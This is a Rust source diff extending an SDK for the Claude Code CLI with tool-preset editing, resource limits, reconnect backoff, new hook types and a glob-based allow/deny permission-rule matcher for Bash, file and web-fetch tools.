@@ -4,18 +4,25 @@
 //! including messages, configuration options, and content blocks.
 
 #![allow(missing_docs)]
+use crate::auto_responder::AutoResponder;
+use crate::log_sink::LogSink;
 use async_trait::async_trait;
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
 use std::io::Write;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 use std::sync::Arc;
+use std::time::Duration;
 use tokio::sync::Mutex;
 
 /// Callback type for stderr output handling.
 /// Called with each line of stderr output from the CLI.
 pub type StderrCallback = Arc<dyn Fn(&str) + Send + Sync>;
 
+/// Callback type for observing tool use.
+/// Called with each tool-use block parsed from an assistant message.
+pub type ToolUseCallback = Arc<dyn Fn(&ToolUseContent) + Send + Sync>;
+
 /// Permission mode for tool execution
 #[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
 #[serde(rename_all = "camelCase")]
@@ -77,6 +84,20 @@ pub struct ToolsPreset {
     pub preset_type: String,
     /// Preset name (e.g., "claude_code")
     pub preset: String,
+    /// Tools taken out of the preset, see [`ToolsConfig::remove_tool`]
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub remove: Vec<String>,
+}
+
+impl ToolsPreset {
+    /// Preset by name (e.g. "claude_code"), with nothing removed
+    pub fn new(preset: impl Into<String>) -> Self {
+        Self {
+            preset_type: "preset".to_string(),
+            preset: preset.into(),
+            remove: vec![],
+        }
+    }
 }
 
 impl ToolsConfig {
@@ -92,10 +113,50 @@ impl ToolsConfig {
 
     /// Create the claude_code preset
     pub fn claude_code_preset() -> Self {
-        ToolsConfig::Preset(ToolsPreset {
-            preset_type: "preset".to_string(),
-            preset: "claude_code".to_string(),
-        })
+        ToolsConfig::Preset(ToolsPreset::new("claude_code"))
+    }
+
+    /// Enable one more tool
+    ///
+    /// A list gets the tool appended unless it is already there. A preset
+    /// already enables every built-in tool, so on a preset this only undoes
+    /// an earlier [`remove_tool`](Self::remove_tool) of the same tool.
+    pub fn add_tool(mut self, tool: impl Into<String>) -> Self {
+        let tool = tool.into();
+        match &mut self {
+            ToolsConfig::List(list) => {
+                if !list.contains(&tool) {
+                    list.push(tool);
+                }
+            },
+            ToolsConfig::Preset(preset) => preset.remove.retain(|t| *t != tool),
+        }
+        self
+    }
+
+    /// Disable one tool
+    ///
+    /// A list simply drops the tool. The CLI has no "preset minus" form, so
+    /// a preset keeps `--tools default` and the removed tools are passed as
+    /// `--disallowedTools`, together with
+    /// [`ClaudeCodeOptions::disallowed_tools`].
+    ///
+    /// ```rust
+    /// # use nexus_claude::ToolsConfig;
+    /// // Everything the CLI offers except Bash
+    /// let tools = ToolsConfig::claude_code_preset().remove_tool("Bash");
+    /// ```
+    pub fn remove_tool(mut self, tool: impl Into<String>) -> Self {
+        let tool = tool.into();
+        match &mut self {
+            ToolsConfig::List(list) => list.retain(|t| *t != tool),
+            ToolsConfig::Preset(preset) => {
+                if !preset.remove.contains(&tool) {
+                    preset.remove.push(tool);
+                }
+            },
+        }
+        self
     }
 }
 
@@ -193,7 +254,162 @@ pub enum ControlProtocolFormat {
     Auto,
 }
 
+/// Format of the input the SDK writes to the CLI's stdin
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum InputFormat {
+    /// One JSON message per line (`--input-format stream-json`); required for
+    /// multi-turn sessions and the control protocol
+    #[default]
+    StreamJson,
+    /// Plain-text prompt (`--input-format text`), for print-mode/one-shot use
+    Text,
+}
+
+impl InputFormat {
+    /// Value passed to the CLI's `--input-format` flag
+    pub fn as_cli_arg(&self) -> &'static str {
+        match self {
+            Self::StreamJson => "stream-json",
+            Self::Text => "text",
+        }
+    }
+}
+
+/// A model available to the account, as reported by the CLI
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ModelInfo {
+    /// Model identifier to pass as `ClaudeCodeOptions::model`
+    pub value: String,
+    /// Human-readable name
+    #[serde(default)]
+    pub display_name: String,
+    /// Short description of the model's strengths
+    #[serde(default)]
+    pub description: String,
+}
+
+/// How to react when a `tool_use_id` is reused within a conversation
+///
+/// Used by [`ClaudeCodeOptions::duplicate_tool_use_policy`] to opt into
+/// client-side tracking of tool-use ids in agent loops.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DuplicateToolUsePolicy {
+    /// Log a warning and continue
+    Warn,
+    /// Fail the operation with `SdkError::DuplicateToolUseId`
+    Error,
+}
+
+/// Which `Result` message ends a turn
+///
+/// The CLI normally emits one `Result` per turn, but a subagent can report
+/// its own result (tagged with the `parent_tool_use_id` of its Task call)
+/// before the main one. Set through [`ClaudeCodeOptions::result_policy`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum ResultPolicy {
+    /// End the turn on the first top-level `Result`; subagent results are
+    /// passed through like any other message
+    #[default]
+    TopLevel,
+    /// End the turn on the first `Result`, whoever produced it
+    First,
+}
+
+impl ResultPolicy {
+    /// Whether `message` ends the turn under this policy
+    pub fn ends_turn(self, message: &Message) -> bool {
+        match self {
+            ResultPolicy::TopLevel => {
+                matches!(message, Message::Result { .. }) && message.is_top_level()
+            },
+            ResultPolicy::First => matches!(message, Message::Result { .. }),
+        }
+    }
+}
+
+/// Resource limits applied to the CLI subprocess (Unix only)
+///
+/// Limits are set with `setrlimit` in the child before `exec`, so they also
+/// apply to every tool process the CLI spawns (each one individually, not
+/// in aggregate).
+///
+/// # Caveats
+///
+/// - `max_memory_bytes` maps to `RLIMIT_AS`, which caps *virtual* address space.
+///   Node.js reserves far more virtual memory than it touches, so values below
+///   a few GiB can stop the CLI from starting at all.
+/// - `max_cpu_seconds` maps to `RLIMIT_CPU` and counts CPU time, not wall-clock
+///   time; the kernel sends `SIGXCPU` and the process is killed when exceeded.
+/// - On non-Unix platforms setting limits makes the connection fail with
+///   `SdkError::NotSupported`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub struct ResourceLimits {
+    /// Maximum address space in bytes (`RLIMIT_AS`)
+    pub max_memory_bytes: Option<u64>,
+    /// Maximum CPU time in seconds (`RLIMIT_CPU`)
+    pub max_cpu_seconds: Option<u64>,
+}
+
+impl ResourceLimits {
+    /// Limit the address space of the subprocess
+    pub fn max_memory_bytes(mut self, bytes: u64) -> Self {
+        self.max_memory_bytes = Some(bytes);
+        self
+    }
+
+    /// Limit the CPU time of the subprocess
+    pub fn max_cpu_seconds(mut self, seconds: u64) -> Self {
+        self.max_cpu_seconds = Some(seconds);
+        self
+    }
+}
+
+/// Delays between attempts to restart a CLI that exited unexpectedly
+///
+/// Attempt `n` (starting at 1) waits `base_delay * multiplier^(n - 1)`,
+/// capped at `max_delay`. See [`ClaudeCodeOptions::reconnect_on_failure`].
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub struct ReconnectBackoff {
+    /// Delay before the first attempt
+    pub base_delay: Duration,
+    /// Factor applied to the delay after each failed attempt
+    pub multiplier: f64,
+    /// Upper bound for any single delay
+    pub max_delay: Duration,
+}
+
+impl Default for ReconnectBackoff {
+    fn default() -> Self {
+        Self {
+            base_delay: Duration::from_millis(500),
+            multiplier: 2.0,
+            max_delay: Duration::from_secs(30),
+        }
+    }
+}
+
+impl ReconnectBackoff {
+    /// Delay before reconnect attempt `attempt` (1-based)
+    pub fn delay(&self, attempt: u32) -> Duration {
+        let factor = self.multiplier.powi(attempt.saturating_sub(1) as i32);
+        let secs = self.base_delay.as_secs_f64() * factor;
+        if secs.is_finite() && secs < self.max_delay.as_secs_f64() {
+            Duration::from_secs_f64(secs)
+        } else {
+            self.max_delay
+        }
+    }
+}
+
 /// MCP (Model Context Protocol) server configuration
+///
+/// String fields (command, args, URL, header and env values) may reference
+/// `${VAR}`. The CLI expands the reference from its environment, so the
+/// value never appears on its command line; when connecting, a variable set
+/// neither in the process environment nor through `env` or
+/// `extra_env_file` fails with `SdkError::ConfigError`.
 #[derive(Clone)]
 pub enum McpServerConfig {
     /// Standard I/O based MCP server
@@ -462,6 +678,386 @@ pub trait CanUseTool: Send + Sync {
     ) -> PermissionResult;
 }
 
+/// Tools whose rule specifier is matched against a file path
+const PATH_TOOLS: &[&str] = &[
+    "Read",
+    "Write",
+    "Edit",
+    "MultiEdit",
+    "NotebookEdit",
+    "Glob",
+    "Grep",
+    "LS",
+];
+
+/// A permission rule in the syntax of `allowed_tools` / `disallowed_tools`
+///
+/// A rule is a tool name, optionally followed by a specifier in parentheses:
+///
+/// - `Read`, `mcp__github__*`: every use of the tool (`*` globs the name)
+/// - `Bash(npm:*)`: Bash commands starting with the word `npm`
+/// - `Bash(git * --dry-run)`: Bash commands matching the glob
+/// - `Read(/src/**)`, `Edit(*.rs)`: file tools (`Read`, `Write`, `Edit`,
+///   `MultiEdit`, `NotebookEdit`, `Glob`, `Grep`, `LS`) on matching paths,
+///   where `*` stays within one directory and `**` crosses directories. A
+///   relative pattern matches at any directory, and `~/` is the home
+///   directory. Relative paths in the tool input are resolved against the
+///   working directory first.
+/// - `WebFetch(domain:example.com)`: fetches of that host (`*` globs it)
+///
+/// A specifier never matches other tools. For a compound Bash command
+/// (`a && b`, `a | b`, `a; b`) the rule must match every command in it,
+/// and command or process substitution is never matched, so an allow rule
+/// cannot be widened by appending a command.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PermissionRuleMatcher {
+    tool: String,
+    specifier: Option<String>,
+}
+
+impl PermissionRuleMatcher {
+    /// Parse a rule such as `Bash(git:*)`
+    pub fn parse(rule: &str) -> crate::errors::Result<Self> {
+        let rule = rule.trim();
+        let invalid = |reason: &str| {
+            crate::errors::SdkError::ConfigError(format!(
+                "Invalid permission rule {rule:?}: {reason}"
+            ))
+        };
+
+        let (tool, specifier) = match rule.find('(') {
+            Some(open) => {
+                let specifier = rule[open + 1..]
+                    .strip_suffix(')')
+                    .ok_or_else(|| invalid("missing closing parenthesis"))?;
+                (&rule[..open], Some(specifier.trim()))
+            },
+            None if rule.contains(')') => return Err(invalid("unexpected parenthesis")),
+            None => (rule, None),
+        };
+        let tool = tool.trim();
+        if tool.is_empty() {
+            return Err(invalid("missing tool name"));
+        }
+
+        Ok(Self {
+            tool: tool.to_string(),
+            // `Tool()` and `Tool(*)` cover every use, like `Tool`
+            specifier: specifier
+                .filter(|s| !s.is_empty() && *s != "*")
+                .map(str::to_string),
+        })
+    }
+
+    /// Whether the rule covers this use of the tool
+    ///
+    /// Relative paths are resolved against the current directory of this
+    /// process; use [`matches_in`](Self::matches_in) when the CLI runs
+    /// elsewhere.
+    pub fn matches(&self, tool_name: &str, input: &serde_json::Value) -> bool {
+        self.matches_in(
+            tool_name,
+            input,
+            &std::env::current_dir().unwrap_or_default(),
+        )
+    }
+
+    /// Like [`matches`](Self::matches), resolving relative paths against `cwd`
+    pub fn matches_in(&self, tool_name: &str, input: &serde_json::Value, cwd: &Path) -> bool {
+        self.matches_with(tool_name, input, cwd, |parts, pattern| {
+            parts.iter().all(|part| {
+                !["$(", "`", "<(", ">("]
+                    .iter()
+                    .any(|substitution| part.contains(substitution))
+                    && command_matches(pattern, part)
+            })
+        })
+    }
+
+    /// Like [`matches_in`](Self::matches_in), but a compound Bash command
+    /// matches when any one of its commands does (used for deny rules)
+    fn matches_any_command(&self, tool_name: &str, input: &serde_json::Value, cwd: &Path) -> bool {
+        self.matches_with(tool_name, input, cwd, |parts, pattern| {
+            parts.iter().any(|part| command_matches(pattern, part))
+        })
+    }
+
+    fn matches_with(
+        &self,
+        tool_name: &str,
+        input: &serde_json::Value,
+        cwd: &Path,
+        commands: impl Fn(&[&str], &str) -> bool,
+    ) -> bool {
+        if !glob_match(&self.tool, tool_name, None) {
+            return false;
+        }
+        let Some(pattern) = &self.specifier else {
+            return true;
+        };
+        let field = |names: &[&str]| {
+            names
+                .iter()
+                .find_map(|name| input.get(*name).and_then(|v| v.as_str()))
+        };
+
+        match tool_name {
+            "Bash" => field(&["command"]).is_some_and(|command| {
+                let parts = command_parts(command);
+                !parts.is_empty() && commands(&parts, pattern)
+            }),
+            "WebFetch" => pattern.strip_prefix("domain:").is_some_and(|domain| {
+                field(&["url"])
+                    .and_then(url_host)
+                    .is_some_and(|host| glob_match(domain, &host, None))
+            }),
+            tool if PATH_TOOLS.contains(&tool) => field(&["file_path", "notebook_path", "path"])
+                .is_some_and(|path| path_matches(pattern, path, cwd)),
+            _ => false,
+        }
+    }
+}
+
+impl std::str::FromStr for PermissionRuleMatcher {
+    type Err = crate::errors::SdkError;
+
+    fn from_str(rule: &str) -> crate::errors::Result<Self> {
+        Self::parse(rule)
+    }
+}
+
+impl std::fmt::Display for PermissionRuleMatcher {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match &self.specifier {
+            Some(specifier) => write!(f, "{}({})", self.tool, specifier),
+            None => f.write_str(&self.tool),
+        }
+    }
+}
+
+/// Split a shell command into the simple commands it chains
+///
+/// Quotes are not interpreted, so an operator inside a quoted string also
+/// splits; that only makes allow rules stricter and deny rules broader.
+fn command_parts(command: &str) -> Vec<&str> {
+    command
+        .split(['&', '|', ';', '\n'])
+        .map(str::trim)
+        .filter(|part| !part.is_empty())
+        .collect()
+}
+
+/// Match one simple command against a Bash rule specifier
+fn command_matches(pattern: &str, command: &str) -> bool {
+    match pattern.strip_suffix(":*") {
+        // Prefix rule: the command, or the command followed by arguments
+        Some(prefix) => command
+            .strip_prefix(prefix)
+            .is_some_and(|rest| rest.is_empty() || rest.starts_with(char::is_whitespace)),
+        None => glob_match(pattern, command, None),
+    }
+}
+
+/// Match a file path, relative to `cwd` unless absolute, against a path
+/// rule specifier
+fn path_matches(pattern: &str, path: &str, cwd: &Path) -> bool {
+    let expand_home = |p: &str| match (p.strip_prefix("~/"), std::env::var("HOME")) {
+        (Some(rest), Ok(home)) => format!("{}/{rest}", home.trim_end_matches('/')),
+        _ => p.to_string(),
+    };
+    let pattern = expand_home(pattern);
+    let path = match expand_home(path) {
+        path if path.starts_with('/') || cwd.as_os_str().is_empty() => path,
+        path => format!("{}/{path}", cwd.to_string_lossy().trim_end_matches('/')),
+    };
+    let path = normalize_path(&path);
+
+    if pattern.starts_with('/') || !path.starts_with('/') {
+        return glob_match(&pattern, &path, Some('/'));
+    }
+    // A relative pattern may start at any directory of an absolute path
+    path.match_indices('/')
+        .any(|(i, _)| glob_match(&pattern, &path[i + 1..], Some('/')))
+}
+
+/// Resolve `.` and `..` components so `/src/../etc` cannot pass as `/src/**`
+fn normalize_path(path: &str) -> String {
+    let mut parts: Vec<&str> = Vec::new();
+    for part in path.split('/') {
+        match part {
+            "" | "." => {},
+            ".." => {
+                parts.pop();
+            },
+            part => parts.push(part),
+        }
+    }
+    let joined = parts.join("/");
+    if path.starts_with('/') {
+        format!("/{joined}")
+    } else {
+        joined
+    }
+}
+
+/// Host of an `http(s)` URL, lowercased
+fn url_host(url: &str) -> Option<String> {
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?.split(':').next()?;
+    (!host.is_empty()).then(|| host.to_ascii_lowercase())
+}
+
+/// Glob match where `*` matches any run of characters
+///
+/// With a `separator`, `*` does not cross it, `**` does, and `**/` also
+/// matches nothing.
+fn glob_match(pattern: &str, text: &str, separator: Option<char>) -> bool {
+    fn at(
+        p: &[char],
+        t: &[char],
+        i: usize,
+        j: usize,
+        separator: Option<char>,
+        memo: &mut [Option<bool>],
+    ) -> bool {
+        let key = i * (t.len() + 1) + j;
+        if let Some(done) = memo[key] {
+            return done;
+        }
+
+        let result = match p.get(i) {
+            None => j == t.len(),
+            Some('*') => {
+                let double = separator.is_some() && p.get(i + 1) == Some(&'*');
+                let next = if double { i + 2 } else { i + 1 };
+                let mut found = double
+                    && separator.is_some_and(|sep| p.get(next) == Some(&sep))
+                    && at(p, t, next + 1, j, separator, memo);
+                for k in j..=t.len() {
+                    if found {
+                        break;
+                    }
+                    if k > j && !double && separator == Some(t[k - 1]) {
+                        break;
+                    }
+                    found = at(p, t, next, k, separator, memo);
+                }
+                found
+            },
+            Some(c) => t.get(j) == Some(c) && at(p, t, i + 1, j + 1, separator, memo),
+        };
+
+        memo[key] = Some(result);
+        result
+    }
+
+    let p: Vec<char> = pattern.chars().collect();
+    let t: Vec<char> = text.chars().collect();
+    let mut memo = vec![None; (p.len() + 1) * (t.len() + 1)];
+    at(&p, &t, 0, 0, separator, &mut memo)
+}
+
+/// [`CanUseTool`] deciding from allow and deny permission rules
+///
+/// Deny rules take precedence: a tool use is denied if any deny rule
+/// matches it (for Bash, any command of a compound command), allowed if an
+/// allow rule matches it, and denied otherwise. See
+/// [`PermissionRuleMatcher`] for the rule syntax. Relative paths are
+/// resolved against the current directory unless the CLI's working
+/// directory is given with [`with_cwd`](Self::with_cwd).
+///
+/// # Example
+///
+/// ```rust
+/// use nexus_claude::{ClaudeCodeOptions, RuleBasedPermissions};
+/// use std::sync::Arc;
+///
+/// let permissions = RuleBasedPermissions::from_rules(
+///     vec!["Read(/src/**)".into(), "Bash(npm:*)".into()],
+///     vec!["Bash(npm publish:*)".into()],
+/// )
+/// .unwrap();
+/// let options = ClaudeCodeOptions::builder()
+///     .can_use_tool(Arc::new(permissions))
+///     .build();
+/// ```
+#[derive(Debug, Clone)]
+pub struct RuleBasedPermissions {
+    allow: Vec<PermissionRuleMatcher>,
+    deny: Vec<PermissionRuleMatcher>,
+    cwd: Option<PathBuf>,
+}
+
+impl RuleBasedPermissions {
+    /// Parse allow and deny rules, failing on the first malformed one
+    pub fn from_rules(allow: Vec<String>, deny: Vec<String>) -> crate::errors::Result<Self> {
+        let parse = |rules: Vec<String>| {
+            rules
+                .iter()
+                .map(|rule| PermissionRuleMatcher::parse(rule))
+                .collect::<crate::errors::Result<Vec<_>>>()
+        };
+        Ok(Self {
+            allow: parse(allow)?,
+            deny: parse(deny)?,
+            cwd: None,
+        })
+    }
+
+    /// Resolve relative paths against `cwd`, the CLI's working directory
+    pub fn with_cwd(mut self, cwd: impl Into<PathBuf>) -> Self {
+        self.cwd = Some(cwd.into());
+        self
+    }
+
+    /// Decide a tool use from the rules alone
+    pub fn check(&self, tool_name: &str, input: &serde_json::Value) -> PermissionResult {
+        let deny = |message: String| {
+            PermissionResult::Deny(PermissionResultDeny {
+                message,
+                interrupt: false,
+            })
+        };
+
+        let cwd = match &self.cwd {
+            Some(cwd) => cwd.clone(),
+            None => std::env::current_dir().unwrap_or_default(),
+        };
+
+        if let Some(rule) = self
+            .deny
+            .iter()
+            .find(|rule| rule.matches_any_command(tool_name, input, &cwd))
+        {
+            return deny(format!("{tool_name} is denied by rule {rule}"));
+        }
+        if self
+            .allow
+            .iter()
+            .any(|rule| rule.matches_in(tool_name, input, &cwd))
+        {
+            return PermissionResult::Allow(PermissionResultAllow {
+                updated_input: None,
+                updated_permissions: None,
+            });
+        }
+        deny(format!("No permission rule allows this use of {tool_name}"))
+    }
+}
+
+#[async_trait]
+impl CanUseTool for RuleBasedPermissions {
+    async fn can_use_tool(
+        &self,
+        tool_name: &str,
+        input: &serde_json::Value,
+        _context: &ToolPermissionContext,
+    ) -> PermissionResult {
+        self.check(tool_name, input)
+    }
+}
+
 /// Hook context
 #[derive(Debug, Clone)]
 pub struct HookContext {
@@ -592,6 +1188,41 @@ pub struct PreCompactHookInput {
     pub custom_instructions: Option<String>,
 }
 
+/// Input data for SessionStart hook events
+///
+/// A SessionStart hook can add context to the new session by returning
+/// [`HookSpecificOutput::SessionStart`].
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct SessionStartHookInput {
+    /// Session ID for this conversation
+    pub session_id: String,
+    /// Path to the transcript file
+    pub transcript_path: String,
+    /// Current working directory
+    pub cwd: String,
+    /// Permission mode (optional)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub permission_mode: Option<String>,
+    /// How the session started: "startup", "resume", "clear" or "compact"
+    pub source: String,
+}
+
+/// Input data for Notification hook events
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct NotificationHookInput {
+    /// Session ID for this conversation
+    pub session_id: String,
+    /// Path to the transcript file
+    pub transcript_path: String,
+    /// Current working directory
+    pub cwd: String,
+    /// Permission mode (optional)
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub permission_mode: Option<String>,
+    /// The notification shown to the user
+    pub message: String,
+}
+
 /// Union type for all hook inputs (discriminated by hook_event_name)
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(tag = "hook_event_name")]
@@ -614,6 +1245,12 @@ pub enum HookInput {
     /// PreCompact hook input
     #[serde(rename = "PreCompact")]
     PreCompact(PreCompactHookInput),
+    /// SessionStart hook input
+    #[serde(rename = "SessionStart")]
+    SessionStart(SessionStartHookInput),
+    /// Notification hook input
+    #[serde(rename = "Notification")]
+    Notification(NotificationHookInput),
 }
 
 // ============================================================================
@@ -672,6 +1309,7 @@ pub struct SyncHookJSONOutput {
 /// Union type for hook outputs
 #[derive(Debug, Clone, Serialize, Deserialize)]
 #[serde(untagged)]
+#[allow(clippy::large_enum_variant)] // boxing the common Sync variant would break matching
 pub enum HookJSONOutput {
     /// Async hook output (deferred execution)
     Async(AsyncHookJSONOutput),
@@ -679,8 +1317,39 @@ pub enum HookJSONOutput {
     Sync(SyncHookJSONOutput),
 }
 
+impl From<SyncHookJSONOutput> for HookJSONOutput {
+    fn from(output: SyncHookJSONOutput) -> Self {
+        Self::Sync(output)
+    }
+}
+
+impl From<AsyncHookJSONOutput> for HookJSONOutput {
+    fn from(output: AsyncHookJSONOutput) -> Self {
+        Self::Async(output)
+    }
+}
+
+impl HookJSONOutput {
+    /// Serialize as the hook response sent to the CLI
+    ///
+    /// A PreToolUse `modification_reason` becomes the `systemMessage` shown to
+    /// the user when the hook did not set one.
+    pub(crate) fn to_cli_value(&self) -> serde_json::Result<serde_json::Value> {
+        if let Self::Sync(output) = self
+            && output.system_message.is_none()
+            && let Some(HookSpecificOutput::PreToolUse(specific)) = &output.hook_specific_output
+            && let Some(reason) = &specific.modification_reason
+        {
+            let mut output = output.clone();
+            output.system_message = Some(reason.clone());
+            return serde_json::to_value(output);
+        }
+        serde_json::to_value(self)
+    }
+}
+
 /// Hook-specific output for PreToolUse events
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct PreToolUseHookSpecificOutput {
     /// Permission decision: "allow", "deny", or "ask"
     #[serde(rename = "permissionDecision", skip_serializing_if = "Option::is_none")]
@@ -697,6 +1366,16 @@ pub struct PreToolUseHookSpecificOutput {
     /// Additional context to provide to Claude (e.g. skill activation context)
     #[serde(rename = "additionalContext", skip_serializing_if = "Option::is_none")]
     pub additional_context: Option<String>,
+    /// User-facing note on why `updated_input` changed the tool input
+    ///
+    /// Shown to the user as the hook's `systemMessage` unless the hook sets
+    /// one itself.
+    #[serde(
+        rename = "modificationReason",
+        default,
+        skip_serializing_if = "Option::is_none"
+    )]
+    pub modification_reason: Option<String>,
 }
 
 /// Hook-specific output for PostToolUse events
@@ -840,6 +1519,16 @@ pub enum SystemPrompt {
         #[serde(skip_serializing_if = "Option::is_none")]
         append: Option<String>,
     },
+    /// Prompt read from a file when the CLI is started, with optional append
+    ///
+    /// Connecting fails with `SdkError::ConfigError` if the file cannot be read.
+    File {
+        /// Path of the prompt file
+        path: PathBuf,
+        /// Text appended after the file's prompt
+        #[serde(skip_serializing_if = "Option::is_none")]
+        append: Option<String>,
+    },
 }
 
 /// Configuration options for Claude Code SDK
@@ -857,6 +1546,14 @@ pub struct ClaudeCodeOptions {
     /// Use system_prompt_v2 instead
     #[deprecated(since = "0.1.12", note = "Use system_prompt_v2 instead")]
     pub append_system_prompt: Option<String>,
+    /// Leave the system prompt to the CLI when none is configured here
+    ///
+    /// By default the SDK passes `--system-prompt ""` when no prompt is set
+    /// (matching the Python SDK), which blanks any prompt from the CLI's own
+    /// settings. When true, the flag is omitted so the CLI's configured prompt
+    /// applies. The CLI only reads settings files listed in `setting_sources`,
+    /// so include the source that holds the prompt (e.g. `SettingSource::User`).
+    pub inherit_cli_system_prompt: bool,
     /// List of allowed tools (auto-approval permissions only)
     ///
     /// **IMPORTANT**: This only controls which tool invocations are auto-approved
@@ -896,19 +1593,41 @@ pub struct ClaudeCodeOptions {
     /// Resume from a specific conversation ID
     pub resume: Option<String>,
     /// Custom permission prompt tool name
+    ///
+    /// An MCP tool name (`mcp__<server>__<tool>`). Connecting warns (or fails
+    /// in `strict_mode`) when the name is malformed or an SDK server in
+    /// `mcp_servers` lacks the tool; a server not in `mcp_servers` is only
+    /// logged, since the CLI may load it from its own config.
     pub permission_prompt_tool_name: Option<String>,
     /// Settings file path for Claude Code CLI
     pub settings: Option<String>,
     /// Additional directories to add as working directories
     pub add_dirs: Vec<PathBuf>,
     /// Extra arbitrary CLI flags
+    ///
+    /// Each value is passed to the CLI as a single argv entry, verbatim:
+    /// spaces and shell metacharacters are neither split nor interpreted. Use
+    /// `extra_args_multi` for flags that take several separate values.
     pub extra_args: HashMap<String, Option<String>>,
+    /// Extra CLI flags taking several values
+    ///
+    /// Each flag is emitted once, followed by every value as its own argv
+    /// entry (`--flag a b`), after the flags from `extra_args`.
+    pub extra_args_multi: HashMap<String, Vec<String>>,
     /// Environment variables to pass to the process
     pub env: HashMap<String, String>,
+    /// Dotenv-style file loaded into the process environment at connect time
+    ///
+    /// Keeps secrets out of the command line. Entries in `env` take precedence.
+    pub extra_env_file: Option<PathBuf>,
     /// Debug output stream (e.g., stderr)
     pub debug_stderr: Option<Arc<Mutex<dyn Write + Send + Sync>>>,
     /// Include partial assistant messages in streaming output
     pub include_partial_messages: bool,
+    /// Format of the input written to the CLI (defaults to stream-json)
+    ///
+    /// `include_partial_messages` requires `InputFormat::StreamJson`.
+    pub input_format: InputFormat,
     /// Tool permission callback
     pub can_use_tool: Option<Arc<dyn CanUseTool>>,
     /// Hook configurations
@@ -921,7 +1640,8 @@ pub struct ClaudeCodeOptions {
     /// When None, no filesystem settings are loaded (matches Python SDK v0.1.0 behavior)
     pub setting_sources: Option<Vec<SettingSource>>,
     /// Fork session when resuming instead of continuing
-    /// When true, creates a new branch from the resumed session
+    /// When true, creates a new branch from the resumed session.
+    /// Requires `resume` or `continue_conversation`; `connect` fails otherwise.
     pub fork_session: bool,
     /// Programmatic agent definitions
     /// Define agents inline without filesystem dependencies
@@ -930,6 +1650,20 @@ pub struct ClaudeCodeOptions {
     /// Controls the size of message, control, and stdin buffers (default: 100)
     /// Increase for high-throughput scenarios to prevent message lag
     pub cli_channel_buffer_size: Option<usize>,
+    /// Fan messages out to multiple receivers (default: false)
+    ///
+    /// By default the transport delivers messages through a single-consumer
+    /// queue that never drops anything. When true, it uses a broadcast
+    /// channel so `subscribe_messages` can hand out independent streams, at
+    /// the cost of dropping messages for any receiver that falls more than
+    /// `cli_channel_buffer_size` messages behind.
+    pub allow_multiple_receivers: bool,
+    /// Drop repeated CLI output lines instead of delivering them again (default: false)
+    ///
+    /// Identical lines seen among the last few hundred messages are delivered
+    /// once. The CLI tags messages with unique IDs, so this only removes true
+    /// duplicates; useful for consumers that are not idempotent.
+    pub dedup_messages: bool,
 
     // ========== Phase 3 Enhancements (Python SDK v0.1.12+ sync) ==========
     /// Tools configuration for controlling available tools
@@ -967,6 +1701,8 @@ pub struct ClaudeCodeOptions {
     pub fallback_model: Option<String>,
     /// Output format for structured outputs
     /// Example: `{"type": "json_schema", "schema": {"type": "object", "properties": {...}}}`
+    /// Supported types are `text` and `json_schema`; any other type makes
+    /// `connect()` fail with `SdkError::ConfigError`
     pub output_format: Option<serde_json::Value>,
     /// Enable file checkpointing to track file changes during the session
     /// When enabled, files can be rewound to their state at any user message
@@ -985,18 +1721,30 @@ pub struct ClaudeCodeOptions {
     /// - Typically requires elevated privileges to switch users
     /// - Accepts a username (e.g. `"nobody"`) or a numeric uid string (e.g. `"1000"`)
     pub user: Option<String>,
+    /// Memory/CPU limits for the CLI subprocess (Unix-only, see [`ResourceLimits`])
+    pub resource_limits: Option<ResourceLimits>,
     /// Stderr callback (alternative to debug_stderr)
     /// Called with each line of stderr output from the CLI
     pub stderr_callback: Option<StderrCallback>,
+    /// Don't surface collected stderr errors as a `system` message
+    ///
+    /// By default, stderr lines that are not known noise are sent to message
+    /// consumers as a `Message::System` with subtype `"error"` once stderr
+    /// closes. stderr output is not always fatal, so set this to keep it out
+    /// of the message stream; it is still logged and passed to
+    /// `debug_stderr` and `stderr_callback`.
+    pub suppress_stderr_errors: bool,
+    /// Receives structured diagnostic events in addition to `tracing`
+    pub log_sink: Option<Arc<dyn LogSink>>,
     /// Automatically download Claude Code CLI if not found
     ///
     /// When enabled, the SDK will automatically download and cache the Claude Code
     /// CLI binary if it's not found in the system PATH or common installation locations.
     ///
-    /// The CLI is cached in:
-    /// - macOS: `~/Library/Caches/cc-sdk/cli/`
-    /// - Linux: `~/.cache/cc-sdk/cli/`
-    /// - Windows: `%LOCALAPPDATA%\cc-sdk\cli\`
+    /// The CLI is cached per platform (see `cli_download::platform_key`) in:
+    /// - macOS: `~/Library/Caches/cc-sdk/cli/<platform>/`
+    /// - Linux: `~/.cache/cc-sdk/cli/<platform>/`
+    /// - Windows: `%LOCALAPPDATA%\cc-sdk\cli\<platform>\`
     ///
     /// # Example
     ///
@@ -1007,6 +1755,24 @@ pub struct ClaudeCodeOptions {
     ///     .build();
     /// ```
     pub auto_download_cli: bool,
+    /// CLI release fetched by `auto_download_cli` (e.g. `"2.0.62"`)
+    ///
+    /// `None` downloads the latest release. Pin a version for reproducible
+    /// builds; a CLI already on PATH or in the cache is still used as is.
